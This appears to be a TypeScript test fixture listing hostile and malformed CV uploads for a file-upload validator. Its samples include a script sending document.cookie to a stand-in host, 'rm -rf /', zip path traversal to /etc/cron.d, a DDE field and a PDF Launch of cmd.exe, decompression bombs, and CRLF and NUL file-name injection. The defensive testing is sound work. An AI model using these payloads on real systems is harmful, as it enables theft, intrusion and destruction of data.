/** Files that people send who mean harm, or whose file is broken: none may be stored, but those that are harmless. */
import { deflateSync } from 'node:zlib'
import type { FileProblem } from '@anupalan/server/contract'
import { writeDocx, writeZip } from './zip.ts'

export interface HostileFile {
  readonly what: string
  /** As the sender calls it. */
  readonly name: string
  /** As the sender declares it. */
  readonly type: string
  readonly make: () => Buffer
  /** Why it is refused; as what it is kept where it is what it says, whatever it is called. */
  readonly fate: FileProblem | 'malformedForm' | { readonly keptAs: string }
}

const text = (content: string) => Buffer.from(content, 'latin1')

const pdfEnd = '\ntrailer <<>>\nstartxref\n9\n%%EOF\n'
export const smallPdf = (inside = '1 0 obj <<>> endobj') => text(`%PDF-1.7\n${inside}${pdfEnd}`)

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
const html = '<!doctype html><html><script>fetch("//elsewhere.example/"+document.cookie)</script></html>'

/** A PNG whose head promises 20,000 × 20,000 pixels: 1.6 GB where somebody draws it. */
function hugePng(): Buffer {
  const head = Buffer.alloc(25)
  head.writeUInt32BE(13, 0)
  head.write('IHDR', 4)
  head.writeUInt32BE(20_000, 8)
  head.writeUInt32BE(20_000, 12)
  head.set([8, 6, 0, 0, 0], 16)
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), head])
}

const compoundFile = () =>
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048)])

/** A part of relationships with one, of a type of Office's own. */
const relationshipTo = (type: string, target: string, mode = 'External') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`

/** A stream that holds objects of a PDF, packed. @param first where its objects begin, behind their numbers and offsets */
function objectStream(inside: string, keys = '/Type/ObjStm', first = 4): string {
  const packed = deflateSync(Buffer.from(inside, 'latin1')).toString('latin1')
  const filter = keys.includes('/Filter') ? '' : '/Filter/FlateDecode'
  return `9 0 obj <<${keys}/N 1/First ${first}${filter}/Length ${packed.length}>>stream\r\n${packed}\r\nendstream endobj`
}

const megabyte = 1024 * 1024
const pdf = 'application/pdf'
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const macroMain = 'application/vnd.ms-word.document.macroEnabled.main+xml'

const file = (
  what: string,
  name: string,
  type: string,
  make: () => Buffer,
  fate: HostileFile['fate'],
): HostileFile => ({ what, name, type, make, fate })

export const hostileFiles: readonly HostileFile[] = [
  file('an SVG with a script', 'cv.svg', 'image/svg+xml', () => text(svg), 'wrongKind'),
  file('an SVG called PDF', 'cv.pdf', pdf, () => text(svg), 'wrongKind'),
  file('a web page', 'cv.html', 'text/html', () => text(html), 'wrongKind'),
  file('a web page called PDF', 'cv.pdf', pdf, () => text(html), 'wrongKind'),
  file(
    'a web page with a PDF’s mark inside',
    'cv.pdf',
    pdf,
    () => text(`${html}\n%PDF-1.7${pdfEnd}`),
    'wrongKind',
  ),
  file(
    'a PDF with a web page behind it',
    'cv.pdf',
    pdf,
    () => Buffer.concat([smallPdf(), text(html)]),
    'damaged',
  ),
  file(
    'a PDF with a zip behind it',
    'cv.pdf',
    pdf,
    () => Buffer.concat([smallPdf(), writeDocx()]),
    'damaged',
  ),
  file(
    'a zip with a PDF before it',
    'cv.docx',
    word,
    () => Buffer.concat([smallPdf(), writeDocx()]),
    'damaged',
  ),
  file(
    'a GIF with a Word document behind it',
    'cv.docx',
    word,
    () => Buffer.concat([text('GIF89a'), writeDocx()]),
    'wrongKind',
  ),
  file(
    'a Word document with a PDF as its comment',
    'cv.docx',
    word,
    () => writeDocx([], undefined, `%PDF-1.7${pdfEnd}`),
    'damaged',
  ),
  file('a PDF whose inside is a web page', 'cv.pdf', pdf, () => smallPdf(html), { keptAs: 'cv.pdf' }),
  file('a program', 'cv.exe', 'application/octet-stream', () => text(`MZ${'\0'.repeat(200)}`), 'wrongKind'),
  file('a program called PDF', 'cv.pdf', pdf, () => text(`MZ${'\0'.repeat(200)}`), 'wrongKind'),
  file('an ELF program', 'cv.docx', word, () => text(`\x7fELF${'\0'.repeat(200)}`), 'wrongKind'),
  file('a shell script', 'cv.sh', 'text/x-sh', () => text('#!/bin/sh\nrm -rf /\n'), 'wrongKind'),
  file(
    'a Java archive',
    'cv.docx',
    word,
    () => writeZip([{ name: 'META-INF/MANIFEST.MF', bytes: 'Main-Class: X' }]),
    'wrongKind',
  ),
  file(
    'an Excel workbook',
    'cv.docx',
    word,
    () =>
      writeZip([
        { name: '[Content_Types].xml', bytes: '<Types/>' },
        { name: 'xl/workbook.xml', bytes: '<x/>' },
      ]),
    'wrongKind',
  ),
  file('an old Word document', 'cv.doc', 'application/msword', compoundFile, 'wrongKind'),
  file(
    'a Word document locked by a password',
    'cv.docx',
    word,
    () => Buffer.concat([compoundFile(), Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(512)]),
    'locked',
  ),
  file('a picture of 20,000 pixels', 'cv.png', 'image/png', hugePng, 'wrongKind'),
  file('a picture of 20,000 pixels called PDF', 'cv.pdf', pdf, hugePng, 'wrongKind'),
  file(
    'a picture of 20,000 pixels inside a Word document',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/media/image1.png', bytes: hugePng() }]),
    { keptAs: 'cv.docx' },
  ),
  file('nothing', 'cv.pdf', pdf, () => Buffer.alloc(0), 'empty'),
  file('one byte', 'cv.pdf', pdf, () => text('%'), 'wrongKind'),
  file('zeros', 'cv.pdf', pdf, () => Buffer.alloc(4096), 'wrongKind'),
  file('a PDF’s mark and nothing else', 'cv.pdf', pdf, () => text('%PDF-1.7'), 'damaged'),
  file(
    'a PDF cut off half-way',
    'cv.pdf',
    pdf,
    () => smallPdf('x'.repeat(4000)).subarray(0, 2000),
    'damaged',
  ),
  file(
    'a Word document cut off half-way',
    'cv.docx',
    word,
    () => {
      const whole = writeDocx()
      return whole.subarray(0, whole.length / 2)
    },
    'damaged',
  ),
  file(
    'one byte more than may be',
    'cv.pdf',
    pdf,
    () => smallPdf('%'.repeat(5 * megabyte + 1 - smallPdf('').length)),
    'large',
  ),
  file(
    'the most that may be',
    'cv.pdf',
    pdf,
    () => smallPdf('%'.repeat(5 * megabyte - smallPdf('').length)),
    { keptAs: 'cv.pdf' },
  ),
  file(
    'a bomb: one part of 80 MB',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/media/a.bin', bytes: Buffer.alloc(80 * megabyte) }]),
    'damaged',
  ),
  file(
    'a bomb that claims to be small, in the one part that is read',
    'cv.docx',
    word,
    () =>
      writeZip([
        { name: '[Content_Types].xml', bytes: Buffer.alloc(40 * megabyte), claims: 100 },
        { name: 'word/document.xml', bytes: '<w/>' },
      ]),
    'damaged',
  ),
  file(
    'a bomb of parts on top of each other',
    'cv.docx',
    word,
    () =>
      writeDocx(
        Array.from({ length: 500 }, (_, index) => ({
          name: `word/media/${index}.bin`,
          bytes: Buffer.alloc(100_000),
          isOverlapping: true,
        })),
      ),
    'damaged',
  ),
  file(
    'a zip of 5,000 parts',
    'cv.docx',
    word,
    () => writeDocx(Array.from({ length: 5_000 }, (_, index) => ({ name: `word/${index}`, bytes: '' }))),
    'damaged',
  ),
  file(
    'a part that leads out of its folder',
    'cv.docx',
    word,
    () => writeDocx([{ name: '../../../etc/cron.d/x', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'a part with an absolute path',
    'cv.docx',
    word,
    () => writeDocx([{ name: '/etc/passwd', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'a part with backslashes',
    'cv.docx',
    word,
    () => writeDocx([{ name: '..\\..\\x', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'the same part twice',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/document.xml', bytes: '<other/>' }]),
    'damaged',
  ),
  file(
    'a part locked by a password',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/media/x', bytes: 'x', isEncrypted: true }]),
    'locked',
  ),
  file(
    'a Word document with macros',
    'cv.docm',
    word,
    () => writeDocx([{ name: 'word/vbaProject.bin', bytes: 'x' }], macroMain),
    'macros',
  ),
  file('macros called docx', 'cv.docx', word, () => writeDocx([], macroMain), 'macros'),
  file(
    'macros under another spelling',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/VBAPROJECT.BIN', bytes: 'x' }]),
    'macros',
  ),
  ...[
    ['a remote template', relationshipTo('attachedTemplate', 'https://elsewhere.example/x.dotm')],
    [
      'a template on another machine',
      relationshipTo('attachedTemplate', String.raw`\\\\elsewhere\\share\\x.dotm`),
    ],
    [
      'a template as a file of another machine',
      relationshipTo('attachedTemplate', 'file://elsewhere/x.dotm'),
    ],
    [
      'a remote template by entities',
      relationshipTo('attachedTemplat&#101;', 'https://elsewhere.example/x', 'Externa&#x6c;'),
    ],
    ['a remote picture', relationshipTo('image', 'https://elsewhere.example/seen.png')],
    ['an OLE object that is elsewhere', relationshipTo('oleObject', 'https://elsewhere.example/x.xls')],
    ['a frame', relationshipTo('frame', 'https://elsewhere.example/')],
    ['a web page inside', relationshipTo('aFChunk', '/word/chunk.html', 'Internal')],
  ].map(([what, rels]) =>
    file(
      `a Word document with ${what}`,
      'cv.docx',
      word,
      () => writeDocx([{ name: 'word/_rels/settings.xml.rels', bytes: rels! }]),
      'active',
    ),
  ),
  file(
    'a Word document with a remote template in UTF-16',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: Buffer.from(
            `\uFEFF${relationshipTo('attachedTemplate', 'https://elsewhere.example/x')}`,
            'utf16le',
          ),
        },
      ]),
    'active',
  ),
  file(
    'a Word document whose relationships define entities',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: `<!DOCTYPE x [<!ENTITY e "External">]>${relationshipTo('attachedTemplate', 'x', '&e;')}`,
        },
      ]),
    'damaged',
  ),
  file(
    'a Word document with an OLE object',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/embeddings/oleObject1.bin', bytes: compoundFile() }]),
    'active',
  ),
  file(
    'a Word document with ActiveX',
    'cv.docx',
    word,
    () => writeDocx([{ name: 'word/activeX/activeX1.xml', bytes: '<x/>' }]),
    'active',
  ),
  file(
    'a Word document with a field that starts a program, in pieces',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/header1.xml',
          bytes:
            '<w:hdr><w:instrText> DDE</w:instrText><w:instrText xml:space="preserve">AUTO c:\\\\x.exe "/k"</w:instrText></w:hdr>',
        },
      ]),
    'active',
  ),
  file(
    'a Word document with links, and made from a template on its writer’s disk',
    'cv.docx',
    word,
    () =>
      writeDocx([
        {
          name: 'word/_rels/document.xml.rels',
          bytes: relationshipTo('hyperlink', 'https://linkedin.example/in/lakshmi'),
        },
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: relationshipTo('attachedTemplate', String.raw`file:///C:\\Users\\L\\Templates\\Normal.dotm`),
        },
        { name: 'word/header1.xml', bytes: '<w:hdr><w:instrText> PAGE </w:instrText>Added 2 years</w:hdr>' },
      ]),
    { keptAs: 'cv.docx' },
  ),
  ...[
    ['a script', '1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'],
    [
      'a script that runs when it is opened',
      '1 0 obj <</Type/Catalog/OpenAction<</S /JavaScript /JS 2 0 R>>>> endobj',
    ],
    ['a script under another spelling', '1 0 obj <</S/J#61vaScr#69pt/#4A#53(x)>> endobj'],
    [
      'a script in an object that begins inside a string',
      '1 0 obj (text 2 0 obj <</S/JavaScript>> endobj) endobj',
    ],
    [
      'a script in an object that begins inside a comment',
      '% 2 0 obj <</JS(x)>> endobj\n1 0 obj <<>> endobj',
    ],
    [
      'a script in an object that begins inside a stream',
      '1 0 obj <</Length 9>> stream\n2 0 obj <</JS(x)>> endobj\nendstream endobj',
    ],
    ['a program that it starts', '1 0 obj <</S/Launch/F(cmd.exe)>> endobj'],
    ['another file inside', '1 0 obj <</Type/EmbeddedFile/Length 1>> stream\nx\nendstream endobj'],
    ['a form that is sent elsewhere', '1 0 obj <</S/SubmitForm/F(https://elsewhere.example)>> endobj'],
    ['a script in a stream of objects', objectStream('1 0 <</S/JavaScript/JS(x)>>')],
    ['a script in a stream of objects that does not say so', objectStream('1 0 <</S/JavaScript/JS(x)>>', '')],
    [
      'a script that a string of a stream of objects hides',
      objectStream('1 0 2 14 (never closed <</JS(x)>>', '/Type/ObjStm', 8),
    ],
    ['a stream of objects packed in another way', objectStream('1 0 <<>>', '/Type/ObjStm/Filter/LZWDecode')],
    [
      'a stream of objects packed twice',
      objectStream('1 0 <<>>', '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]'),
    ],
  ].map(([what, inside]) => file(`a PDF with ${what}`, 'cv.pdf', pdf, () => smallPdf(inside), 'active')),
  file(
    'a PDF locked by a password',
    'cv.pdf',
    pdf,
    () =>
      text(
        '%PDF-1.7\n1 0 obj <</JS(x)>> endobj\ntrailer <</Encrypt 2 0 R/Root 1 0 R>>\nstartxref\n9\n%%EOF\n',
      ),
    'locked',
  ),
  file(
    'a PDF locked by a password, its trailer in a stream',
    'cv.pdf',
    pdf,
    () => smallPdf('1 0 obj <</Type/XRef/Encrypt 2 0 R/Length 1>> stream\nx\nendstream endobj'),
    'locked',
  ),
  file(
    'a PDF whose stream of objects is a bomb',
    'cv.pdf',
    pdf,
    () => smallPdf(objectStream(' '.repeat(40 * megabyte))),
    'damaged',
  ),
  file(
    'a PDF that is read again and again',
    'cv.pdf',
    pdf,
    () => smallPdf('1 0 obj '.repeat(500_000)),
    'damaged',
  ),
  file(
    'a PDF that speaks of scripts and begins at a page',
    'cv.pdf',
    pdf,
    () =>
      smallPdf(
        `1 0 obj <</Title(HTML/CSS/JavaScript \\( /JS)/OpenAction[3 0 R/Fit]/URI(https://x.example/JS)>> endobj\n${objectStream('1 0 <</Title(/JavaScript)>>')}\n2 0 obj <</Filter/FlateDecode/Length 9>> stream\n /JS /Launch \nendstream endobj`,
      ),
    { keptAs: 'cv.pdf' },
  ),
  file('a PDF with two endings', 'cv.pdf.exe', pdf, smallPdf, { keptAs: 'cv.pdf.exe.pdf' }),
  file('a PDF whose name leads out of its folder', '../../../../etc/passwd', pdf, smallPdf, {
    keptAs: 'passwd.pdf',
  }),
  file('a PDF whose name has a NUL', 'cv.php\0.pdf', pdf, smallPdf, 'malformedForm'),
  file('a PDF declared as a web page', 'cv.html', 'text/html', smallPdf, { keptAs: 'cv.html.pdf' }),
  file('a PDF whose name is a header', 'cv.pdf\r\nContent-Type: text/html', pdf, smallPdf, 'missing'),
  file('a PDF with a Hindi name', 'लक्ष्मी-नारायण.pdf', pdf, smallPdf, { keptAs: 'लक्ष्मी-नारायण.pdf' }),
]

/** A multipart body byte for byte, its file name as raw as it is. */
export function rawForm(
  fields: Readonly<Record<string, string>>,
  { name, type, make }: Pick<HostileFile, 'name' | 'type' | 'make'>,
): { readonly body: Buffer; readonly contentType: string } {
  const boundary = '----anupalan-test-boundary'
  const parts = Object.entries(fields).map(([field, value]) =>
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`),
  )
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="cv"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`
  return {
    body: Buffer.concat([...parts, Buffer.from(head), make(), Buffer.from(`\r\n--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  }
}
